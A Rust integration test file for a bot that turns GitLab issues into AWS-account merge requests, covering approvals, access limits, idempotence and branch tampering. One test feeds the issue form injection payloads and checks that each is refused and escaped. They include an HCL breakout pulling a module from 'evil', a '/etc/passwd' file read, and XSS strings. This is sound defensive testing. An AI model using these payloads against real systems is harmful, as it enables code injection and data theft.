//! Requests by GitLab issue, as a story against the fake GitLab (and moto, for the account
//! it vends): a requester opens an issue from the template with a wrong field, orgvend
//! explains in one note; they fix it, the note is edited and an MR appears; it is reviewed,
//! the requester's own approval does not count, Infrastructure approves, it merges and the
//! account is vended. Beside it, every way around: no access, too many requests, an editor
//! who approves, injection through the issue, a lost answer to the MR's creation.

mod common;

use common::fake_aws::Scripted;
use common::fake_gitlab::{FakeNote, Targeted, hooks};
use common::moto::Moto;
use common::world::{ALICE, BOB, BOT, DEV, MALLORY, World};
use common::{Delivery, TestServer};

const TEMPLATE: &str =
    include_str!("../templates/subaccounts/.gitlab/issue_templates/aws-account.md");

/// The shipped template with its block filled in.
fn filled(fields: &str) -> String {
    let start = TEMPLATE.find("```orgvend\n").unwrap() + "```orgvend\n".len();
    let end = start + TEMPLATE[start..].find("```").unwrap();
    format!("{}{fields}\n{}", &TEMPLATE[..start], &TEMPLATE[end..])
}

fn hooli(name: &str) -> String {
    filled(&format!(
        "type: client\nname: {name}\nowner: data-team\npurpose: Analytics for Hooli\ntags: client=hooli"
    ))
}

async fn post(server: &TestServer, event: &str, payload: serde_json::Value) {
    let r = server
        .post(&Delivery::new(event, payload.to_string().into_bytes()))
        .await;
    assert_eq!(r.status, 200, "{r:?}");
}

trait Issues {
    async fn open_issue(&self, author: u64, title: &str, body: &str) -> u64;
    async fn edit_issue(&self, iid: u64, by: u64, body: &str);
    async fn comment_issue(&self, iid: u64, by: u64, body: &str);
    fn issue_notes(&self, iid: u64) -> Vec<FakeNote>;
    fn request_mrs(&self, issue: u64) -> Vec<u64>;
    /// GitLab's open delivery for each MR the bot opened since the last call.
    async fn deliver_bot_mrs(&self, seen: &mut Vec<u64>);
}

impl Issues for World {
    async fn open_issue(&self, author: u64, title: &str, body: &str) -> u64 {
        let (iid, hook) = self.gitlab.with(|s| {
            let iid = s.open_issue(author, title, body);
            (iid, hooks::issue_hook(s, iid, "open", author))
        });
        post(&self.server, "Issue Hook", hook).await;
        iid
    }

    async fn edit_issue(&self, iid: u64, by: u64, body: &str) {
        let hook = self.gitlab.with(|s| {
            let previous = s.issues[&iid].description.clone();
            s.edit_issue(iid, by, body);
            let mut hook = hooks::issue_hook(s, iid, "update", by);
            // GitLab says what the update changed
            hook["changes"]["description"] =
                serde_json::json!({"previous": previous, "current": body});
            hook
        });
        post(&self.server, "Issue Hook", hook).await;
    }

    async fn comment_issue(&self, iid: u64, by: u64, body: &str) {
        let hook = self.gitlab.with(|s| {
            let note = s.comment_issue(iid, by, body);
            hooks::issue_note_hook(s, iid, note)
        });
        post(&self.server, "Note Hook", hook).await;
    }

    fn issue_notes(&self, iid: u64) -> Vec<FakeNote> {
        self.gitlab.with(|s| s.bot_issue_notes(iid))
    }

    fn request_mrs(&self, issue: u64) -> Vec<u64> {
        let branch = format!("orgvend/request-{issue}");
        self.gitlab.with(|s| {
            s.mrs
                .values()
                .filter(|m| m.source_branch == branch)
                .map(|m| m.iid)
                .collect()
        })
    }

    async fn deliver_bot_mrs(&self, seen: &mut Vec<u64>) {
        let new: Vec<u64> = self.gitlab.with(|s| {
            s.mrs
                .values()
                .filter(|m| m.author == BOT && !seen.contains(&m.iid))
                .map(|m| m.iid)
                .collect()
        });
        for iid in new {
            seen.push(iid);
            self.deliver_mr(iid, "open", BOT, None).await;
        }
    }
}

/// The world with DEV a Reporter of the subaccounts project (and, as before, a member of
/// Infrastructure: an approver of others' changes, never of their own request).
fn with_members(w: &World) {
    w.gitlab.with(|s| {
        s.project_members.insert(DEV, ("active".into(), 20));
        s.project_members.insert(ALICE, ("active".into(), 40));
        s.project_members.insert(BOB, ("active".into(), 40));
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_issue_becomes_an_approved_mr_and_an_account() {
    let moto = Moto::start();
    moto.organization().await;
    let w = World::applying(Scripted::new(moto.aws().await)).await;
    with_members(&w);
    let mut seen = Vec::new();

    // a wrong field: one note says what
    let issue = w
        .open_issue(DEV, "AWS account for Hooli", &hooli("Hooli!"))
        .await;
    w.settle().await;
    let notes = w.issue_notes(issue);
    assert_eq!(notes.len(), 1);
    assert!(
        notes[0].body.contains("cannot be made yet"),
        "{}",
        notes[0].body
    );
    assert!(
        notes[0].body.contains("**name**: `Hooli!` has `H`"),
        "{}",
        notes[0].body
    );
    assert!(w.request_mrs(issue).is_empty());

    // fixed: the same note, edited, names the MR that appeared
    w.edit_issue(issue, DEV, &hooli("hooli")).await;
    w.settle().await;
    let notes = w.issue_notes(issue);
    assert_eq!(notes.len(), 1, "one note, edited in place");
    let mrs = w.request_mrs(issue);
    assert_eq!(mrs.len(), 1);
    let mr = mrs[0];
    assert!(
        notes[0]
            .body
            .contains(&format!("Merge request opened: !{mr}")),
        "{}",
        notes[0].body
    );
    let (author, description, head) = w.gitlab.with(|s| {
        let m = &s.mrs[&mr];
        (m.author, m.description.clone(), m.head_sha.clone())
    });
    assert_eq!(author, BOT);
    assert!(
        description.starts_with(&format!("Closes #{issue}\n")),
        "{description}"
    );
    assert!(description.contains("Requested by @dev"), "{description}");
    let clients = w.gitlab.with(|s| s.file_at(&head, "clients.tf")).unwrap();
    assert!(clients.contains("name   = \"client-hooli\""), "{clients}");
    assert!(
        clients.contains("# Purpose: Analytics for Hooli"),
        "{clients}"
    );

    // GitLab announces the MR: reviewed like any other, and says who asked
    w.deliver_bot_mrs(&mut seen).await;
    w.settle().await;
    let note = w.bot_note(mr);
    assert!(note.contains("Requested by `dev` in #1"), "{note}");
    assert_ne!(w.status_state(&head), "success", "{note}");

    // the requester approves: does not count
    w.approve_as(mr, DEV).await;
    w.settle().await;
    let note = w.bot_note(mr);
    assert_ne!(w.status_state(&head), "success", "{note}");
    assert!(note.contains("requester's approval never counts"), "{note}");

    // Infrastructure approves: ready; merged; vended
    w.approve_as(mr, ALICE).await;
    w.settle().await;
    assert_eq!(w.status_state(&head), "success", "{}", w.bot_note(mr));
    let sha = w.merge_as(mr, BOB).await;
    w.settle().await;
    let run = w.apply_run(&sha).await;
    assert_eq!(run.decision, "applied", "{}", w.bot_note(mr));
    let facts: serde_json::Value = serde_json::from_str(&run.facts).unwrap();
    assert_eq!(
        facts["approvals_counted"],
        serde_json::json!(["infra-alice"])
    );
    let all = moto.accounts().await;
    assert_eq!(
        all.iter().filter(|(_, n, _)| n == "client-hooli").count(),
        1,
        "{all:?}"
    );

    // an edit after the merge makes nothing new
    w.edit_issue(issue, DEV, &hooli("hooli2")).await;
    w.settle().await;
    let notes = w.issue_notes(issue);
    assert_eq!(notes.len(), 1);
    assert!(
        notes[0].body.contains(&format!("Done in !{mr}")),
        "{}",
        notes[0].body
    );
    assert_eq!(w.request_mrs(issue), [mr]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_edit_updates_the_same_branch_and_mr_and_an_editor_never_approves() {
    let w = World::new().await;
    with_members(&w);
    let mut seen = Vec::new();
    let issue = w.open_issue(DEV, "Hooli", &hooli("hooli")).await;
    w.settle().await;
    w.deliver_bot_mrs(&mut seen).await;
    w.settle().await;
    let mr = w.request_mrs(issue)[0];
    let first = w.head(mr);

    // ALICE edits DEV's request (a tag): she wrote part of it now
    let edited = hooli("hooli").replace(
        "tags: client=hooli",
        "tags: client=hooli, cost-center=cc-42",
    );
    w.edit_issue(issue, ALICE, &edited).await;
    w.settle().await;
    assert_eq!(w.request_mrs(issue), [mr], "the same MR");
    let second = w.head(mr);
    assert_ne!(first, second, "the branch holds the new request");
    let clients = w.gitlab.with(|s| s.file_at(&second, "clients.tf")).unwrap();
    assert!(clients.contains("\"cost-center\", \"cc-42\""), "{clients}");
    let note = &w.issue_notes(issue)[0].body;
    assert!(
        note.contains(&format!("Merge request updated: !{mr}")),
        "{note}"
    );

    // an edit that changes nothing in the request pushes nothing
    w.edit_issue(issue, DEV, &format!("{edited}\nThanks!"))
        .await;
    w.settle().await;
    assert_eq!(w.head(mr), second);

    // ALICE's approval does not count; BOB's does
    w.deliver_mr(mr, "update", BOT, Some(&first)).await;
    w.approve_as(mr, ALICE).await;
    w.settle().await;
    assert_ne!(w.status_state(&second), "success", "{}", w.bot_note(mr));
    assert!(w.bot_note(mr).contains("requester's approval never counts"));
    w.approve_as(mr, BOB).await;
    w.settle().await;
    assert_eq!(w.status_state(&second), "success", "{}", w.bot_note(mr));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn who_may_ask_and_how_often() {
    let w = World::new().await;
    with_members(&w);
    // MALLORY has no access to the project: refused, nothing made
    let issue = w.open_issue(MALLORY, "mine", &hooli("mallory")).await;
    w.settle().await;
    let note = &w.issue_notes(issue)[0].body;
    assert!(note.contains("will not make this request"), "{note}");
    assert!(
        note.contains("`mallory` wrote this request but has no reporter access"),
        "{note}"
    );
    assert!(w.request_mrs(issue).is_empty());
    assert!(
        w.gitlab
            .with(|s| !s.branches.contains_key(&format!("orgvend/request-{issue}")))
    );

    // nor may a member edit a stranger's request into being: the author still wrote it
    w.edit_issue(issue, DEV, &hooli("mallory2")).await;
    w.settle().await;
    assert!(w.request_mrs(issue).is_empty());

    // three open requests at once, not four
    let mut issues = Vec::new();
    for name in ["one", "two", "three", "four"] {
        let body = hooli(name).replace("client=hooli", &format!("client={name}"));
        issues.push(w.open_issue(DEV, name, &body).await);
        w.settle().await;
    }
    for i in &issues[..3] {
        assert_eq!(w.request_mrs(*i).len(), 1, "{}", w.issue_notes(*i)[0].body);
    }
    let note = &w.issue_notes(issues[3])[0].body;
    assert!(note.contains("has 3 open requests"), "{note}");
    assert!(w.request_mrs(issues[3]).is_empty());
    // one is closed: the fourth is made when asked again
    let closed = w.request_mrs(issues[0])[0];
    w.gitlab
        .with(|s| s.mrs.get_mut(&closed).unwrap().state = "closed".into());
    w.comment_issue(issues[3], DEV, "/orgvend request").await;
    w.settle().await;
    assert_eq!(
        w.request_mrs(issues[3]).len(),
        1,
        "{}",
        w.issue_notes(issues[3])[0].body
    );

    // a comment on an issue without a block gets the help, once asked
    let plain = w
        .open_issue(DEV, "question", "How do I get an account?")
        .await;
    w.settle().await;
    assert!(
        w.issue_notes(plain).is_empty(),
        "issues that are not requests are left alone"
    );
    w.comment_issue(plain, DEV, "/orgvend request").await;
    w.settle().await;
    assert!(w.issue_notes(plain)[0].body.contains("No request here"));
}

/// HCL and Markdown through every field of the issue: refused in the note, never Terraform,
/// never HTML.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injection_through_the_issue_is_refused() {
    let w = World::new().await;
    with_members(&w);
    let attacks = [
        "x\" } module \"evil\" { source = \"git::https://evil/x.git",
        "${file(\"/etc/passwd\")}",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "%{ if true }x%{ endif }",
    ];
    let fields = [
        "name", "owner", "purpose", "tags", "access", "email", "type",
    ];
    let mut n = 0;
    for attack in attacks {
        for field in fields {
            n += 1;
            let value = match field {
                "tags" => format!("client=hooli, k={attack}"),
                "access" => format!("ReadOnly={attack}"),
                _ => attack.to_string(),
            };
            let mut lines: Vec<String> = vec![
                "type: client".into(),
                format!("name: hooli{n}"),
                "tags: client=hooli".into(),
            ];
            lines.retain(|l| !l.starts_with(&format!("{field}:")));
            lines.push(format!("{field}: {value}"));
            let issue = w
                .open_issue(DEV, "attack", &filled(&lines.join("\n")))
                .await;
            w.settle().await;
            let note = w.issue_notes(issue)[0].body.clone();
            assert!(
                note.contains("cannot be made yet"),
                "{field} = {attack}: {note}"
            );
            // what the requester wrote is in code spans (shown literally) or escaped
            let problems: String = note
                .lines()
                .filter(|l| l.starts_with("- **"))
                .flat_map(|l| l.split('`').step_by(2))
                .collect();
            assert!(
                !problems.is_empty() && !problems.contains('<') && !problems.contains("]("),
                "{field} = {attack}: {note}"
            );
            assert!(w.request_mrs(issue).is_empty(), "{field} = {attack}");
        }
    }
    assert!(
        w.gitlab
            .with(|s| !s.branches.keys().any(|b| b.starts_with("orgvend/request-")))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_lost_answer_opens_one_mr() {
    let w = World::new().await;
    with_members(&w);
    w.gitlab.with(|s| {
        s.targeted
            .push_back(Targeted::lost_answer("POST", "/repository/commits"));
        s.targeted
            .push_back(Targeted::lost_answer("POST", "/merge_requests"));
        s.targeted
            .push_back(Targeted::lost_answer("POST", "/notes"));
    });
    let issue = w.open_issue(DEV, "Hooli", &hooli("hooli")).await;
    w.settle().await;
    assert_eq!(w.request_mrs(issue).len(), 1);
    assert_eq!(w.issue_notes(issue).len(), 1);
    let mr = w.request_mrs(issue)[0];
    let commits = w.gitlab.with(|s| s.mr_commits(mr).len());
    assert_eq!(commits, 1, "one commit on the branch");
    // redelivered: nothing new
    let hook = w.gitlab.with(|s| hooks::issue_hook(s, issue, "open", DEV));
    post(&w.server, "Issue Hook", hook).await;
    w.settle().await;
    assert_eq!(w.request_mrs(issue).len(), 1);
    assert_eq!(w.issue_notes(issue).len(), 1);
}

/// Someone else's commits on the request's branch are never carried into orgvend's MR:
/// orgvend keeps the branch only while its head is orgvend's own commit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_to_the_request_branch_is_replaced() {
    let w = World::new().await;
    with_members(&w);
    let issue = w.open_issue(DEV, "Hooli", &hooli("hooli")).await;
    w.settle().await;
    let mr = w.request_mrs(issue)[0];
    let ours = w.head(mr);
    w.deliver_mr(mr, "open", BOT, None).await;
    w.settle().await;
    assert!(
        w.bot_note(mr)
            .contains("orgvend wrote this change from the issue")
    );
    // BOB pushes onto the open MR: the note no longer says orgvend wrote it
    let bobs = w
        .push_as(mr, BOB, &[("extra.tf", Some("module \"x\" {}\n"))])
        .await;
    w.settle().await;
    let note = w.bot_note(mr);
    assert!(
        note.contains("holds commits orgvend did not write"),
        "{note}"
    );
    assert_ne!(w.status_state(&bobs), "success");
    // BOB slips a file onto the branch (a closed MR leaves no push note to find him by)
    let branch = format!("orgvend/request-{issue}");
    w.gitlab.with(|s| {
        s.mrs.get_mut(&mr).unwrap().state = "closed".into();
        let sha = s.commit_by(BOB, Some(&ours), &[("extra.tf", Some("module \"x\" {}\n"))]);
        s.branches.insert(branch.clone(), sha);
    });
    w.comment_issue(issue, DEV, "/orgvend request").await;
    w.settle().await;
    let mrs = w.request_mrs(issue);
    assert_eq!(mrs.len(), 2, "a new MR for the closed one");
    let head = w.head(mrs[1]);
    let tree = w.gitlab.with(|s| s.tree_of(&head));
    assert!(
        !tree.contains_key("extra.tf"),
        "BOB's file went with his commit"
    );
    assert_eq!(w.gitlab.with(|s| s.first_parent(&head)), Some(w.master()));
}

/// An MR someone else opened from a branch of the request's name is not orgvend's: it is
/// neither pushed to nor taken as the request's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_look_alike_mr_is_not_taken() {
    let w = World::new().await;
    with_members(&w);
    let (their_mr, their_head) = w.gitlab.with(|s| {
        let base = s.branches["master"].clone();
        let head = s.commit_by(BOB, Some(&base), &[("evil.tf", Some("module \"x\" {}\n"))]);
        s.branches.insert("orgvend/request-1".into(), head.clone());
        (
            s.open_mr(BOB, "looks like a request", "orgvend/request-1", "master"),
            head,
        )
    });
    let issue = w.open_issue(DEV, "Hooli", &hooli("hooli")).await;
    assert_eq!(issue, 1);
    w.settle().await;
    let note = &w.issue_notes(issue)[0].body;
    assert!(
        note.contains("A merge request orgvend did not open"),
        "{note}"
    );
    assert!(note.contains("`orgvend/request-1`"), "{note}");
    assert_eq!(w.head(their_mr), their_head, "their branch is not touched");
    let (title, description) = w.gitlab.with(|s| {
        let m = &s.mrs[&their_mr];
        (m.title.clone(), m.description.clone())
    });
    assert_eq!(title, "looks like a request");
    assert!(description.is_empty());
    assert!(
        w.server
            .ctx
            .store
            .request_for_mr("15", their_mr)
            .await
            .unwrap()
            .is_none()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn confidential_requests_and_broken_edits_make_nothing_mergeable() {
    let w = World::new().await;
    with_members(&w);
    let secret = w.gitlab.with(|s| {
        let iid = s.open_issue(DEV, "secret", &hooli("hooli"));
        s.issues.get_mut(&iid).unwrap().confidential = true;
        iid
    });
    let hook = w.gitlab.with(|s| hooks::issue_hook(s, secret, "open", DEV));
    post(&w.server, "Issue Hook", hook).await;
    w.settle().await;
    assert!(w.issue_notes(secret)[0].body.contains("confidential"));
    assert!(w.request_mrs(secret).is_empty());

    let issue = w.open_issue(DEV, "Hooli", &hooli("hooli")).await;
    w.settle().await;
    let mr = w.request_mrs(issue)[0];
    let title = |w: &World| w.gitlab.with(|s| s.mrs[&mr].title.clone());
    assert!(!title(&w).starts_with("Draft:"));
    // an edit that breaks the request holds its MR as a draft
    w.edit_issue(issue, DEV, &hooli("Hooli Inc")).await;
    w.settle().await;
    assert!(title(&w).starts_with("Draft: "), "{}", title(&w));
    assert!(w.issue_notes(issue)[0].body.contains("cannot be made yet"));
    // fixed: back to itself
    w.edit_issue(issue, DEV, &hooli("hooli")).await;
    w.settle().await;
    assert_eq!(title(&w), "Request #2: client account client-hooli");
}
